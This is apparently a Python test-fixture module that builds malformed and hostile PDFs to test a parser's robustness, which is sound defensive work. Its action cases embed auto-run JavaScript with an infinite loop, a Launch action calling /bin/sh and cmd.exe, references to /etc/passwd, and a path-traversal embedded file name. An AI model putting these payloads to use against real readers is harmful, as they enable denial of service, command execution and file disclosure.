"""PDFs that loop, claim, nest, unpack, run or lock."""

from collections.abc import Iterator

from hostile.case import DAMAGED, SECRET, TOO_MUCH, Hostile


def raw(*objects: bytes, trailer: bytes = b"", root: bytes = b"1 0 R") -> bytes:
    out, at = b"%PDF-1.7\n", []
    for number, one in enumerate(objects, 1):
        at.append(len(out))
        out += b"%d 0 obj\n" % number + one + b"\nendobj\n"
    table = b"".join(b"%010d 00000 n \n" % place for place in at)
    size = len(objects) + 1
    head = b"xref\n0 %d\n0000000000 65535 f \n" % size
    return (
        out
        + head
        + table
        + b"trailer << /Size %d /Root %s %s >>\nstartxref\n%d\n%%%%EOF" % (size, root, trailer, len(out))
    )


def stream(content: bytes, more: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), more, content)


def one_page(
    content: bytes = b"",
    *others: bytes,
    box: bytes = b"[0 0 595 842]",
    page: bytes = b"",
    catalog: bytes = b"",
    more: bytes = b"",
) -> bytes:
    """Make a PDF of one page; its contents are object 4, `others` begin at 5."""
    return raw(
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox " + box + b" /Contents 4 0 R " + page + b" >>",
        stream(content, more),
        *others,
    )


def hostile_documents() -> Iterator[Hostile]:
    yield from _trees()
    yield from _actions()
    yield from _locked()


def _trees() -> Iterator[Hostile]:
    catalog = b"<< /Type /Catalog /Pages 2 0 R >>"
    leaf = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 2600 1] >>"
    yield Hostile("pdf-no-pages", raw(catalog, b"<< /Type /Pages /Kids [] /Count 0 >>"), DAMAGED)
    yield Hostile("pdf-own-child", raw(catalog, b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"), DAMAGED)
    yield Hostile(
        "pdf-own-child-many",
        raw(catalog, b"<< /Type /Pages /Kids [" + b"2 0 R " * 500 + b"] /Count 500 >>"),
        DAMAGED,
        500,
    )
    ring = (
        b"<< /Type /Pages /Kids [3 0 R] /Count 9 >>",
        b"<< /Type /Pages /Kids [2 0 R] /Count 9 /Parent 2 0 R >>",
    )
    yield Hostile("pdf-ring", raw(catalog, *ring), DAMAGED, 9)
    for count in (2**31 - 1, 2**31, -1, 10**9, 10**18):
        many = b"<< /Type /Pages /Kids [3 0 R] /Count %d >>" % count
        yield Hostile(
            f"pdf-claims-{count}-pages", raw(catalog, many, leaf), DAMAGED | {"too_many_pages"}, 1001
        )
    same = b"<< /Type /Pages /Kids [" + b"3 0 R " * 5_000 + b"] /Count 5000 >>"
    yield Hostile("pdf-five-thousand-pages", raw(catalog, same, leaf), DAMAGED | {"too_many_pages"}, 1001)
    deep = [
        b"<< /Type /Pages /Parent %d 0 R /Kids [%d 0 R] /Count 1 >>" % (n - 1, n + 1) for n in range(2, 5_000)
    ]
    yield Hostile(
        "pdf-deep-tree",
        raw(catalog, *deep, b"<< /Type /Page /Parent 4999 0 R /MediaBox [0 0 9 9] >>"),
        DAMAGED,
    )
    parent = b"<< /Type /Pages /Parent 2 0 R /Kids [3 0 R] /Count 1 >>"
    yield Hostile("pdf-own-parent", raw(catalog, parent, b"<< /Type /Page /Parent 2 0 R >>"), DAMAGED)
    for box in (
        b"[0 0 1e9 1e9]",
        b"[0 0 1e9 1]",
        b"[0 0 0 0]",
        b"[1 1 -1 -1]",
        b"[0 0 NaN NaN]",
        b"[0 0 1e-9 1e-9]",
        b"[0 0 1e39 1e39]",
        b"[]",
        b"(words)",
        b"[0 0 99999999999999999999 1]",
    ):
        yield Hostile(f"pdf-box-{box.decode()}", one_page(box=box), DAMAGED | TOO_MUCH)
    for more in (
        b"/UserUnit 1e9",
        b"/UserUnit -1",
        b"/Rotate 45",
        b"/Rotate 99999999999",
        b"/CropBox [0 0 1 99999]",
        b"/Contents 3 0 R",
    ):
        yield Hostile(f"pdf-page-{more.decode()}", one_page(page=more), DAMAGED | TOO_MUCH)
    whole = one_page()
    for name, tail in (
        ("itself", b"startxref\n%d\n%%%%EOF" % whole.rindex(b"xref\n0")),
        ("nowhere", b"startxref\n99999999999\n%%EOF"),
        ("minus", b"startxref\n-5\n%%EOF"),
        ("nothing", b""),
    ):
        yield Hostile(f"pdf-start-{name}", whole[: whole.rindex(b"startxref")] + tail, DAMAGED)
    for before in (whole.rindex(b"xref\n0"), 0, 99_999_999):
        yield Hostile(
            f"pdf-table-before-{before}", whole.replace(b"/Size 5 ", b"/Size 5 /Prev %d " % before), DAMAGED
        )
    yield Hostile("pdf-updated-often", whole + whole[whole.rindex(b"xref\n0") :] * 2_000, DAMAGED)
    yield Hostile("pdf-giant-table", whole.replace(b"xref\n0 5", b"xref\n0 4294967295"), DAMAGED)
    yield Hostile("pdf-only-header", b"%PDF-1.7\n", DAMAGED)
    yield Hostile("pdf-deep-lists", raw(catalog, b"[" * 200_000 + b"]" * 200_000), DAMAGED)
    yield Hostile("pdf-deep-dictionaries", raw(b"<< /A " * 100_000 + b">>" * 100_000), DAMAGED)
    yield Hostile("pdf-refers-to-itself", raw(b"1 0 R"), DAMAGED)


def _actions() -> Iterator[Hostile]:
    js = b"/S /JavaScript /JS (app.alert\\('" + SECRET.encode() + b"'\\); while\\(true\\){})"
    for name, catalog in (
        ("script", b"/OpenAction << " + js + b" >>"),
        ("script-tree", b"/Names << /JavaScript << /Names [(a) << " + js + b" >>] >> >>"),
        ("launch", b"/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >>"),
        ("address", b"/OpenAction << /S /URI /URI (https://" + SECRET.encode() + b".example/) >>"),
        ("send", b"/OpenAction << /S /SubmitForm /F (https://example.org/) >>"),
        ("other-file", b"/OpenAction << /S /GoToR /F (/etc/passwd) /D [0 /Fit] >>"),
        (
            "embedded",
            b"/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (../../a.exe) /EF << /F 4 0 R >> >>] >> >>",
        ),
        ("xfa", b"/AcroForm << /XFA (<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'>) /Fields [] >>"),
        ("names-loop", b"/Names << /Dests << /Kids [1 0 R] >> >>"),
    ):
        yield Hostile(f"pdf-{name}", one_page(catalog=catalog), frozenset({"blank"}))
    far = stream(b"", b"/F (/etc/passwd) /FFilter /ASCIIHexDecode")
    yield Hostile(
        "pdf-contents-elsewhere",
        raw(
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
            far,
        ),
        frozenset({"blank"}),
    )


def _locked() -> Iterator[Hostile]:
    pages = (
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    )
    ids = b"/ID [<" + b"43" * 16 + b"> <" + b"43" * 16 + b">]"
    for kind, revision, length in ((1, 2, 40), (2, 3, 128), (4, 4, 128), (5, 6, 256), (9, 9, 999)):
        keys = (
            b"/O <"
            + b"41" * 48
            + b"> /U <"
            + b"42" * 48
            + b"> /OE <"
            + b"41" * 32
            + b"> /UE <"
            + b"42" * 32
            + b">"
        )
        lock = b"/Encrypt << /Filter /Standard /V %d /R %d /Length %d /P -44 %s >> " % (
            kind,
            revision,
            length,
            keys,
        )
        yield Hostile(
            f"pdf-locked-{kind}", raw(*pages, trailer=lock + ids), frozenset({"locked", "unreadable"})
        )
    yield Hostile(
        "pdf-locked-elsehow",
        raw(*pages, trailer=b"/Encrypt << /Filter /Other >>" + ids),
        frozenset({"locked", "unreadable"}),
    )
